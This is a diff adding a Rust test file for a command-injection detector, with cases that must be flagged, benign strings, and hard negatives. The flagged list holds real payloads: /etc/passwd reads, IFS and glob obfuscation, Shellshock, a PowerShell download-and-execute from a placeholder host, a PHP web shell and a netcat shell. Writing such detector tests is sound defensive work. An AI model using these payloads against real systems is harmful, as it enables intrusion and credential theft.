@@ -1,0 +1,98 @@
+use super::*;
+
+fn hit(v: &str) -> bool {
+    detect(v, Context::Param).is_some()
+}
+
+#[test]
+fn separators_and_substitutions() {
+    for v in [
+        "foo; ls -la",
+        "a|true",
+        "a;id|",
+        "& whoami",
+        "&& pwd",
+        "|| cat /etc/passwd",
+        "x\ncat /etc/passwd",
+        "$(whoami)",
+        "`id`",
+        "<(curl http://x)",
+        "{cat,/etc/passwd}",
+        ";cat${IFS}/etc/passwd",
+        ";cat$IFS$9/etc/passwd",
+        "a;c$@at /et$@c/pas$@swd",
+        "; /???/c?t /e??/p??s??",
+        ";$CMD",
+        "${SHELL} -c \"echo hi\"",
+        "& type %SYSTEMROOT%\\win.ini",
+        "| dir c:\\",
+        "; w^h^o^a^m^i",
+        "%26%26+|+dir+c:\\",
+        "127.0.0.1%0aid%0a",
+        "; Invoke-Expression $x",
+        "; iex(New-Object Net.WebClient).DownloadString('http://x')",
+        "() { :;}; /bin/bash -c id",
+        "system('id');",
+        "<?php passthru($_GET['c']); ?>",
+        "nc -lvvp 4445 -e /bin/sh &",
+        "for /f \"tokens=*\" %G in ('dir /b') do echo %G",
+        "IF %ERRORLEVEL% NEQ 0 echo test",
+        "'whoami' && x",
+        "\\ls -la",
+        "una$$me -a",
+        "set -o history",
+        "/usr/bin/id",
+    ] {
+        assert!(hit(v), "{v}");
+    }
+}
+
+#[test]
+fn benign_prose_and_data() {
+    for v in [
+        "Tom & Jerry",
+        "Q&A",
+        "AT&T",
+        "fish; chips",
+        "rock|paper",
+        "I came; I saw; I left",
+        "https://example.com/?a=1&b=2&id=3",
+        "**bold** and _italic_ [link](https://x.org)",
+        "x = (a + b) * c; y = x | 3",
+        "p && q || r",
+        "cat",
+        "time flies like an arrow",
+        "Tags: java | python | perl",
+        "Find more info at our site",
+        "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
+        "curl/7.68.0",
+        "session=abc123; path=/; HttpOnly",
+        "Operating system(s) supported",
+        "Salt & pepper; sleep well",
+        "$(document).ready",
+        "Price: $10 & up",
+        "copy & paste",
+        "S&W",
+        "Date: 12/05/2024",
+        "echo chamber",
+    ] {
+        assert!(!hit(v), "{v}");
+    }
+}
+
+#[test]
+fn reasons_for_hard_negatives() {
+    for v in [
+        "/SEARCH/HANDMADE?SEARCH_SUBMIT=&Q=\"NOT+AMUSED\"&ORDER=MOST_RELEVANT&SHIP_TO=ZZ&VIEW_TYPE=GALLERY&PAGE=4",
+        "arg=;%22The%20quick%20brown%20fox%20jumped%20over%20the%20lazy%20dog%22",
+        "SET 8 -MINI AS",
+        "wget",
+        "F*)v9Q(d1t_Fe",
+        "/?/ludność.tiff",
+        "Opera/9.10.(X11; Linux x86_64; aa-ET) Presto/2.9.170 Version/11.00",
+        "Find your solution here -> link",
+        ";$a $b $c",
+    ] {
+        assert_eq!(detect(v, Context::Param), None, "{v}");
+    }
+}
